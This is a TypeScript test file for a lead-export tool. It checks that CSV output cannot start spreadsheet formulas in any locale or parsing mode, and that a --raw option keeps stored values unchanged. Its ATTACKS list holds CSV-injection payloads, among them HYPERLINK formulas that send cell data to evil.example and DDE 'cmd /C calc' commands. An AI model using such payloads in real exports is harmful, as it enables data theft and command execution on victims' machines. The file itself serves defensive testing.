import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { frustrationOptions, goalOptions } from '../../../../src/lib/waitlist/schema.ts';
import { leadsToCsv, neutraliseFormulas } from '../../../../src/server/leads/csv.ts';
import { openSqliteLeadStore, type StoredLead } from '../../../../src/server/leads/store.ts';
import { EXPORT_CLI_TEST_TIMEOUT_MS, runExportCli } from '../../../support/export-cli.ts';
import { parse } from './csv-parse.ts';
import { lead } from './store-contract.ts';

function stored(overrides: Partial<StoredLead>): StoredLead {
  return {
    id: randomUUID(),
    createdAt: '2025-03-04T09:15:00.000Z',
    sourceProgram: 'ripple-effect',
    name: 'Dana Whitfield',
    email: 'dana@example.com',
    companyName: 'Northwind Regional Health',
    role: 'Innovation Leader',
    goal: [goalOptions[0]],
    frustrations: [frustrationOptions[2]],
    investment: '$10,000–$25,000',
    additionalInfo: 'Looking at Q3.',
    earlyAccess: true,
    ...overrides,
  } as StoredLead;
}

const FORMULA_START = /^[=+\-@\uff1d\uff0b\uff0d\uff20]/;

/**
 * The cells a spreadsheet could make of the export, in every way one might read it: split on the
 * comma, the semicolon or the tab, honouring quotes or not, leading spaces trimmed or not.
 */
function everyPossibleCell(csv: string): string[] {
  const cells: string[] = [];
  const fields = parse(csv).flat();
  for (const separator of [',', ';', '\t']) {
    // A program that honours the quotes: each field, split again on this locale's separator.
    for (const field of fields) cells.push(...field.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator)));
    // A program that does not understand quoting: raw lines split on the separator, one pair of
    // surrounding quotes dropped from each piece.
    for (const line of csv.split(/\r\n|\r|\n/)) {
      cells.push(...line.split(separator).map((piece) => piece.replace(/^"|"$/g, '')));
    }
  }
  return cells.flatMap((cell) => [cell, cell.trimStart()]);
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'x;=HYPERLINK("http://evil.example")',
  'x; =1+1',
  'Northwind\t=1+1',
  'ok,=1+1',
  'line one\n=1+1',
  'line one\r\n@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("http://evil.example")',
  'x;＋1+1',
  '\u00a0=1+1',
  'a;b;c;-1',
];

describe('the lead export is safe to open in any spreadsheet, in any locale', () => {
  it.each(ATTACKS)('no cell of any reading of %j starts a formula', (attack) => {
    const csv = leadsToCsv([
      stored({
        name: attack,
        companyName: attack,
        roleOther: attack,
        additionalInfo: attack,
        email: 'dana@example.com',
      }),
    ]);
    const dangerous = everyPossibleCell(csv).filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);
  });

  it('holds for any text a visitor can type', () => {
    const text = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '\n', '\r', ' ', '"', "'", 'a', '1', '＝', '\u00a0'),
      maxLength: 30,
    });
    fc.assert(
      fc.property(text, text, (name, info) => {
        const csv = leadsToCsv([stored({ name, additionalInfo: info })]);
        return everyPossibleCell(csv).every((cell) => !FORMULA_START.test(cell));
      }),
      { numRuns: 500 },
    );
  });

  it('quotes a value holding a semicolon or a tab, so a spreadsheet splitting on those keeps it whole', () => {
    const csv = leadsToCsv([stored({ companyName: 'Fabrik; Werkstatt', additionalInfo: 'a\tb' })]);
    expect(csv).toContain('"Fabrik; Werkstatt"');
    expect(csv).toContain('"a\tb"');
  });

  it('changes only what a spreadsheet could run; ordinary values are exported as typed', () => {
    const row = parse(leadsToCsv([stored({ name: "Dana O'Neil-Whitfield", companyName: 'A-1 Ventures; Ltd' })]))[1];
    expect(row?.[3]).toBe("Dana O'Neil-Whitfield");
    expect(row?.[5]).toBe('A-1 Ventures; Ltd');
    expect(neutraliseFormulas('+44 Ventures')).toBe("'+44 Ventures");
    expect(neutraliseFormulas('x;=HYPERLINK(1)')).toBe("x;'=HYPERLINK(1)");
    expect(neutraliseFormulas('x; @SUM(1)')).toBe("x; '@SUM(1)");
  });
});

describe('--raw keeps every value as stored', () => {
  it('leadsToCsv({ raw: true }) reads back exactly', () => {
    const leads = ATTACKS.map((attack) => stored({ name: attack, additionalInfo: `${attack} and more` }));
    const rows = parse(leadsToCsv(leads, { raw: true })).slice(1);
    expect(rows.map((row) => row[3])).toEqual(ATTACKS);
    expect(rows.map((row) => row[11])).toEqual(ATTACKS.map((attack) => `${attack} and more`));
  });

  const dir = mkdtempSync(path.join(tmpdir(), 'leads-raw-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  it('npm run leads:export -- --raw writes values untouched; without it they are defused', {
    timeout: EXPORT_CLI_TEST_TIMEOUT_MS,
  }, async () => {
    const file = path.join(dir, 'leads.sqlite');
    const store = openSqliteLeadStore(file);
    await store.save(lead({ companyName: '+44 Ventures', additionalInfo: 'Budget; =SUM(A1:A9)' }), randomUUID());
    await store.close();
    const safe = await runExportCli([], { SQLITE_PATH: file });
    expect(safe.code).toBe(0);
    expect(parse(safe.stdout)[1]?.[5]).toBe("'+44 Ventures");
    expect(parse(safe.stdout)[1]?.[11]).toBe("Budget; '=SUM(A1:A9)");
    const raw = await runExportCli(['--raw'], { SQLITE_PATH: file });
    expect(raw.code).toBe(0);
    expect(parse(raw.stdout)[1]?.[5]).toBe('+44 Ventures');
    expect(parse(raw.stdout)[1]?.[11]).toBe('Budget; =SUM(A1:A9)');
  });
});
